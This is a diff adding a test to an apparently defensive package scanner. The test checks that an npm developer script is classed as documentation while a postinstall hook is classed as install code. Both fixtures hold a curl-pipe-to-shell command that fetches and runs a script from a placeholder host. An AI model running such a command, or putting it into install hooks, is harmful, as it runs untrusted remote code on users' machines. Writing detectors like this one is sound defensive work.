@@ -326,3 +326,18 @@ def test_signal_sits_at_the_code_not_at_the_docstring_example(engine: Engine) ->
     found = decode_and_execute_rule(package(engine, sdist({"tidy_strings/m.py": commented})))
     assert found is not None
     assert {s.context for s in found.signals} == {"docs"}
+
+
+def test_developer_scripts_in_the_manifest_are_not_install_code(engine: Engine) -> None:
+    """``"test:e2e": "curl ... | sh"`` is run by a developer on demand, not by npm on
+    install: documentation weight; the same command in ``postinstall`` is install code."""
+    from tests.analysis.builders import package
+
+    dev = npm_tarball(scripts={"test:e2e": "curl -LsSf https://x.example.net/i.sh | sh"})
+    found = executes_code_at_remote_url_rule(package(engine, dev))
+    assert found is not None
+    assert {s.context for s in found.signals} == {"docs"}
+    hook = npm_tarball(scripts={"postinstall": "curl -LsSf https://x.example.net/i.sh | sh"})
+    found = executes_code_at_remote_url_rule(package(engine, hook))
+    assert found is not None
+    assert {s.context for s in found.signals} == {"install"}
